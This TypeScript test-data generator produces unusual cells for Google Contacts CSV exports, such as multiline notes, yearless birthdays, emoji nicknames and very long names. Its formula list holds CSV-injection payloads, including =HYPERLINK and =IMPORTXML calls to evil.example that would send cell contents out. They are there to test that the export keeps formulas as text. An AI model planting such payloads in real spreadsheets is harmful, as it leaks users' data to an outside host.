/** What makes an address book of real life hard: notes, dates without a year, formulas as text, very long names, emoji. */
import type { GoogleCsvColumn } from './googleCsvColumns';
import { digits, type Random } from './seededRandom';

type Cells = Partial<Record<GoogleCsvColumn, string>>;

const notes = [
  'Met at the "Autumn Fair".\nWants the catalogue on paper,\nnot by mail.',
  '担当変更あり。\n「見積書」は郵送を希望。\r\nFAX不可',
  'Comma, semicolon; tab\tand a ::: that is none of ours',
  'L\'appeler "après 14 h" — jamais avant',
] as const;

/** Text that a spreadsheet would evaluate if anyone let it; it has to arrive as text. */
const formulas: readonly Cells[] = [
  { 'Organization Title': '=HYPERLINK("https://evil.example/?x="&A1,"Click me")' },
  { Nickname: '@name' },
  { 'Custom Field 1 - Label': 'Formula', 'Custom Field 1 - Value': '=1+2' },
  { 'Organization Department': '-1+1' },
  { 'Organization Title': '＝SUM(A1:A9)' },
  { Nickname: '+81 3 0000 0000' },
  { 'Organization Department': '=IMPORTXML("https://evil.example/","//a")' },
  { 'Organization Title': "'=1+1" },
];

const nicknames = ['Sunny 🌻', '🦊', 'たっくん🎣', '👩‍🚀 Zoé', 'しょーちゃん', '🇯🇵🏌️‍♂️', 'Bo'] as const;

const longName = (unit: string, length: number): string =>
  unit.repeat(Math.ceil(length / unit.length)).slice(0, length);

const date = (random: Random): string =>
  `${digits(random.below(12) + 1, 2)}-${digits(random.below(28) + 1, 2)}`;

/** Cells to lay over the row at this position; the position decides, so that every kind occurs in every export. */
export const unusualCells = (position: number, random: Random): Cells => ({
  ...(position % 50 === 7 ? { Notes: random.pick(notes) } : {}),
  ...(position % 9 === 3 ? { Birthday: `${1940 + random.below(65)}-${date(random)}` } : {}),
  ...(position % 27 === 6 ? { Birthday: `--${date(random)}` } : {}),
  ...(position % 25 === 11
    ? {
        'Relation 1 - Label': random.pick(['Assistant', 'Spouse', '秘書', 'Manager']),
        'Relation 1 - Value': random.pick(['Robin Ashdown', '鈴木 花子', 'Éloïse']),
      }
    : {}),
  ...(position % 20 === 13
    ? {
        'Custom Field 1 - Label': random.pick(['Customer No.', '顧客番号']),
        'Custom Field 1 - Value': `C-${digits(position, 5)}`,
      }
    : {}),
  ...(position % 33 === 5
    ? {
        'Event 1 - Label': random.pick(['Anniversary', '創立記念日']),
        'Event 1 - Value': `${1990 + random.below(30)}-${date(random)}`,
      }
    : {}),
  ...(position % 40 === 21 ? { Nickname: random.pick(nicknames) } : {}),
  ...(position % 60 === 31 ? { 'Address 1 - PO Box': `P.O. Box ${random.below(900) + 100}` } : {}),
  ...(position % 250 === 77 ? { 'File As': 'VIP, first floor' } : {}),
  ...(position % 250 === 79 ? { Photo: `https://photos.example/${position}.jpg` } : {}),
  ...(position % 100 === 17 ? formulas[Math.floor(position / 100) % formulas.length] : {}),
  ...(position % 500 === 123 ? { 'First Name': longName('Maximiliane-Josephine ', 200) } : {}),
  ...(position % 500 === 322 ? { 'Last Name': longName('寿限無寿限無五劫の擦り切れ', 200) } : {}),
});
